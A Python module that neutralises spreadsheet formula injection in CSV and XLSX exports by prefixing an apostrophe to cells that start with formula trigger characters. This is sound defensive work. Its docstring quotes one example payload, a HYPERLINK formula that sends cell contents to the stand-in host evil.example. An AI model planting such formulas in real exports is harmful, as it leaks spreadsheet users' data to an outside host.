"""Cells that a spreadsheet reads as data, never as a formula (issue 28: formula injection in the exports).

A reference-data name such as `=HYPERLINK("http://evil.example/?x="&A1,"klik")` was written raw into the CSV (a
formula once Excel or LibreOffice opens it) and became a live formula cell in the XLSX (openpyxl stores any string
starting with `=` as one). OWASP's rule for CSV injection: a text cell that starts with `=`, `+`, `-`, `@`, a tab or
a carriage return gets a leading apostrophe, which spreadsheets show as text and never evaluate. Numbers, dates
and None are left as they are, so counts stay numbers and sum in a spreadsheet.
"""
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as a spreadsheet must receive it."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [neutralise(v) for v in values]
